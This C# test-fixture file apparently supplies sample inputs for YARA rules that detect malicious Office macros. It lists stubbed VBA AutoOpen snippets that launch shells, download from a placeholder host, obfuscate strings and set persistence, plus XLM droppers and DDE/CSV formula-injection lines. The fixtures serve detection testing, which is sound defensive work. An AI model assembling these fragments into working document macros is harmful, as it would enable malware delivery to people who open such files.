using static SecuEdge.Cage.Tests.Yara.RuleVector;

namespace SecuEdge.Cage.Tests.Yara;

internal static class MacroVectors
{
    private const string Head = "Attribute VB_Name = \"ThisDocument\"\r\n";

    public static IReadOnlyList<RuleVector> All { get; } =
    [
        new("Vba_Auto_Interpreter", Auto("CreateObject(\"WScript.Shell\").Run \"powershell -c x\"")),
        new("Vba_Auto_Interpreter", Auto("Shell \"cmd.exe /c x.bat\"")),
        new("Vba_Auto_Interpreter", Auto("GetObject(\"winmgmts:Win32_Process\").Create \"MSHTA x\"")),
        new("Vba_Auto_Start", Auto("Shell(Environ(\"TEMP\") & \"\\x.bin\", 0)")),
        new("Vba_Auto_Download", Auto("Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"x\"")),
        new("Vba_Auto_Download", Auto("URLDownloadToFileA 0, \"http://x.example/\", \"x\", 0, 0")),
        new("Vba_Obfuscated", Auto("a = " + Repeat("Chr(104) & ", 30) + "\"\"")),
        new("Vba_Obfuscated", Auto("CreateObject(StrReverse(\"llehS.tpircSW\"))")),
        new("Vba_Code_In_Memory", Head + "Declare Function VirtualAlloc Lib \"kernel32\" ()\r\nDeclare Sub RtlMoveMemory Lib \"kernel32\" ()\r\nDeclare Function CreateThread Lib \"kernel32\" ()"),
        new("Vba_Looks_Around", Auto("If Application.RecentFiles.Count < 3 Or InStr(x, \"vmware\") Then Exit Sub")),
        new("Vba_Stays", Head + "w.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"x\""),
        new("Vba_Stays", Head + "Open Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs\" For Output As #1"),
        new("Vba_Lowers_Guard", Head + "w.RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\", 1"),
        new("Vba_Hides_Command", Auto("Shell ActiveDocument.BuiltInDocumentProperties(\"Comments\").Value, 0")),
        new("Vba_Mails_Itself", Head + "Set o = CreateObject(\"Outlook.Application\")\r\nFor Each l In s.AddressLists\r\nm.Attachments.Add \"x\""),
        new("Xlm_Dropper", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x.example/\",\"x\",0,0)\n=HALT()\n"),
        new("Xlm_Dropper", "ID;P\nC;Y1;X1;K0;EEXEC(\"powershell x\")\n"),
        new("Xlm_Symbolic_Link", "ID;PWXL;N;E\nNN;NAuto_open;ER1C1\nC;Y1;X1;K0;EEXEC(\"calc\")\n"),
        new("Dde_Command", "<w:instrText xml:space=\"preserve\"> DDEAUTO \"C:\\\\Windows\\\\System32\\\\cmd.exe\" \"/k calc\"</w:instrText>"),
        new("Dde_Command", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k x\"}}}"),
        new("Dde_Cell", "name,amount\r\n=cmd|'/c calc.exe'!A1,2\r\n"),
        new("Dde_Cell", "name;=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c x'!_xlbgnm.A1"),
    ];

    private static string Auto(string line) => Head + "Sub AutoOpen()\r\n  " + line + "\r\nEnd Sub\r\n";
}
